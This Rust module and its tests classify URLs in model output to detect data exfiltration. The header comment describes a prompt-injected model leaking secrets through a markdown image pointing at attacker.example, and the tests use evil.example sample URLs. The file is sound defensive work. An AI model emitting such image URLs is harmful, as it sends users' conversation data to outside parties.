//! URL and link classification: where a URL sits (markdown image, link, HTML, raw text), where
//! it points, and whether it carries data.
//!
//! A model that has been prompt-injected can exfiltrate the conversation by emitting
//! `![](https://attacker.example/p.png?q=<secret>)`: the client renders the image and the browser
//! sends the secret. Images are fetched without a click, so they are judged strictest.

use crate::category::Category;

/// Where a URL appears.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Placement {
    /// `![alt](url)`, `<img src=url>`: fetched automatically when rendered.
    Image,
    /// `[text](url)`, `<url>`, `<a href=url>`, `[ref]: url`.
    Link,
    /// A bare URL in prose.
    Raw,
}

/// How far back to look for the `[` of a markdown link.
const BRACKET_LOOKBACK: usize = 600;

/// Classifies the placement of a URL from the normalised text before it.
pub(crate) fn placement(before: &[u8]) -> Placement {
    let b = before;
    let ends = |s: &[u8]| b.ends_with(s);
    if ends(b"src=\"") || ends(b"src='") || ends(b"src=") {
        return Placement::Image;
    }
    if ends(b"href=\"") || ends(b"href='") || ends(b"href=") || ends(b"<") || ends(b"]: ") {
        return Placement::Link;
    }
    let close = if ends(b"](") {
        b.len() - 2
    } else if ends(b"](<") || ends(b"]( ") {
        b.len() - 3
    } else {
        return Placement::Raw;
    };
    // Find the '[' that opens the link text, allowing nested brackets.
    let lo = close.saturating_sub(BRACKET_LOOKBACK);
    let mut depth = 0usize;
    let mut i = close;
    while i > lo {
        i -= 1;
        match b[i] {
            b']' => depth += 1,
            b'[' if depth == 0 => {
                return if i > 0 && b[i - 1] == b'!' {
                    Placement::Image
                } else {
                    Placement::Link
                };
            }
            b'[' => depth -= 1,
            _ => {}
        }
    }
    // The opening bracket is out of sight: treat as a link (still a rendered destination).
    Placement::Link
}

/// Bytes that end a URL.
fn is_terminator(c: u8, placement: Placement) -> bool {
    matches!(
        c,
        b' ' | b'<' | b'>' | b'"' | b'\'' | b'`' | b'{' | b'}' | b'|' | b'\\' | b'^' | b'[' | b']'
    ) || (c == b')' && placement != Placement::Raw)
}

/// End (exclusive, relative to `bytes`) of the URL that starts at `bytes[0]`, if a terminator is
/// in sight. In raw text a `)` ends the URL unless the URL opened a `(` (Wikipedia-style links).
pub(crate) fn url_end(bytes: &[u8], placement: Placement) -> Option<usize> {
    let mut open = 0usize;
    for (i, &c) in bytes.iter().enumerate() {
        if is_terminator(c, placement) {
            return Some(i);
        }
        if c == b'(' {
            open += 1;
        } else if c == b')' {
            if open == 0 {
                return Some(i);
            }
            open -= 1;
        }
    }
    None
}

/// Drops trailing punctuation that belongs to the sentence, not the URL.
pub(crate) fn trim_trailing(url: &[u8]) -> usize {
    let mut end = url.len();
    while end > 0
        && matches!(
            url[end - 1],
            b'.' | b',' | b';' | b':' | b'!' | b'?' | b'*' | b'_'
        )
    {
        end -= 1;
    }
    end
}

/// What a URL is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum UrlKind {
    /// `data:<mime>...`
    DataUri,
    /// A network URL to `host`.
    Network { host: String, carries_data: bool },
    /// Not a URL after all (`data: 5`, `www.` alone).
    NotUrl,
}

fn is_data_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'_' | b'-' | b'%')
}

/// Parses a normalised (lower-case) URL.
pub(crate) fn parse(url: &[u8]) -> UrlKind {
    if let Some(rest) = url.strip_prefix(b"data:") {
        // data:<type>/<subtype>[;...],...
        let mime_end = rest
            .iter()
            .position(|&c| !(c.is_ascii_alphanumeric() || matches!(c, b'.' | b'+' | b'-' | b'/')))
            .unwrap_or(rest.len());
        let mime = &rest[..mime_end];
        let slash = mime.iter().filter(|&&c| c == b'/').count();
        let next = rest.get(mime_end).copied();
        if slash == 1
            && !mime.starts_with(b"/")
            && !mime.ends_with(b"/")
            && matches!(next, Some(b';') | Some(b','))
        {
            return UrlKind::DataUri;
        }
        return UrlKind::NotUrl;
    }
    let rest = if let Some(i) = find(url, b"://") {
        &url[i + 3..]
    } else {
        url
    };
    let auth_end = rest
        .iter()
        .position(|&c| matches!(c, b'/' | b'?' | b'#'))
        .unwrap_or(rest.len());
    let authority = &rest[..auth_end];
    let hostport = match authority.iter().rposition(|&c| c == b'@') {
        Some(i) => &authority[i + 1..],
        None => authority,
    };
    let host = if hostport.starts_with(b"[") {
        match hostport.iter().position(|&c| c == b']') {
            Some(i) => &hostport[..=i],
            None => hostport,
        }
    } else {
        match hostport.iter().position(|&c| c == b':') {
            Some(i) => &hostport[..i],
            None => hostport,
        }
    };
    let host = host.strip_suffix(b".").unwrap_or(host);
    if host.is_empty() || !host.contains(&b'.') && !host.starts_with(b"[") && host != b"localhost" {
        return UrlKind::NotUrl;
    }
    let after = &rest[auth_end..];
    let path_end = after
        .iter()
        .position(|&c| matches!(c, b'?' | b'#'))
        .unwrap_or(after.len());
    let path = &after[..path_end];
    let query = if after.get(path_end) == Some(&b'?') {
        let q = &after[path_end + 1..];
        let qe = q.iter().position(|&c| c == b'#').unwrap_or(q.len());
        &q[..qe]
    } else {
        &[][..]
    };
    let long_segment = |s: &[u8], sep: u8| {
        s.split(|&c| c == sep)
            .any(|seg| seg.len() >= 32 && seg.iter().all(|&c| is_data_char(c)))
    };
    let carries_data = !query.is_empty()
        || long_segment(path, b'/')
        || long_segment(host, b'.')
        || authority.contains(&b'@') && authority.len() > host.len() + 16;
    UrlKind::Network {
        host: String::from_utf8_lossy(host).into_owned(),
        carries_data,
    }
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// Whether `host` is allowed by the allow-list (`*.x` allows `x` and its subdomains) or is the
/// request's own host.
pub(crate) fn host_allowed(host: &str, allow: &[String], request_host: Option<&str>) -> bool {
    if request_host.is_some_and(|r| r.eq_ignore_ascii_case(host)) {
        return true;
    }
    allow.iter().any(|a| match a.strip_prefix("*.") {
        Some(suffix) => {
            host == suffix
                || host.len() > suffix.len() + 1
                    && host.ends_with(suffix)
                    && host.as_bytes()[host.len() - suffix.len() - 1] == b'.'
        }
        None => host == a,
    })
}

/// The category and rule id of a URL finding, if any.
pub(crate) fn classify(
    kind: &UrlKind,
    placement: Placement,
    allow: &[String],
    request_host: Option<&str>,
) -> Option<(Category, &'static str)> {
    match kind {
        UrlKind::NotUrl => None,
        UrlKind::DataUri => Some((Category::DataUri, "data_uri.inline")),
        UrlKind::Network { host, carries_data } => {
            if host_allowed(host, allow, request_host) {
                return None;
            }
            match (placement, carries_data) {
                (Placement::Image, true) => Some((Category::Exfiltration, "exfiltration.image")),
                (Placement::Image, false) => {
                    Some((Category::UntrustedLink, "untrusted_link.image"))
                }
                (Placement::Link, true) => Some((Category::Exfiltration, "exfiltration.link")),
                (Placement::Raw, true) => Some((Category::Exfiltration, "exfiltration.raw_url")),
                (_, false) => None,
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn placements() {
        assert_eq!(placement(b"see ![a [b] c]("), Placement::Image);
        assert_eq!(placement(b"see [a](<"), Placement::Link);
        assert_eq!(placement(b"<img src=\""), Placement::Image);
        assert_eq!(placement(b"visit "), Placement::Raw);
        assert_eq!(placement(b"[1]: "), Placement::Link);
    }

    #[test]
    fn parses_hosts_and_data() {
        let net = |s: &str| parse(s.as_bytes());
        assert_eq!(
            net("https://user@evil.example:8080/x.png?d=abc"),
            UrlKind::Network {
                host: "evil.example".into(),
                carries_data: true
            }
        );
        // userinfo that looks like a trusted host is a deception: counted as carrying data
        assert_eq!(
            net("https://good.example.com@evil.example/p"),
            UrlKind::Network {
                host: "evil.example".into(),
                carries_data: true
            }
        );
        assert_eq!(
            net("https://docs.rs/regex"),
            UrlKind::Network {
                host: "docs.rs".into(),
                carries_data: false
            }
        );
        assert!(matches!(
            net("https://x.example/aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCB0b2tlbg"),
            UrlKind::Network {
                carries_data: true,
                ..
            }
        ));
        assert_eq!(net("data:image/png;base64,aaaa"), UrlKind::DataUri);
        assert_eq!(net("data:"), UrlKind::NotUrl);
        assert_eq!(net("www."), UrlKind::NotUrl);
    }

    #[test]
    fn allow_list() {
        let allow = vec!["*.corp.example".to_string(), "docs.rs".to_string()];
        assert!(host_allowed("corp.example", &allow, None));
        assert!(host_allowed("a.b.corp.example", &allow, None));
        assert!(!host_allowed("evilcorp.example", &allow, None));
        assert!(host_allowed("docs.rs", &allow, None));
        assert!(!host_allowed("x.docs.rs", &allow, None));
        assert!(host_allowed("api.example", &allow, Some("API.example")));
    }

    #[test]
    fn url_ends() {
        assert_eq!(url_end(b"https://a.b/c) more", Placement::Link), Some(13));
        assert_eq!(
            url_end(b"https://en.wikipedia.org/wiki/a_(b) x", Placement::Raw),
            Some(35)
        );
        assert_eq!(url_end(b"https://a.b/c", Placement::Raw), None);
        assert_eq!(trim_trailing(b"https://a.b/c."), 13);
    }
}
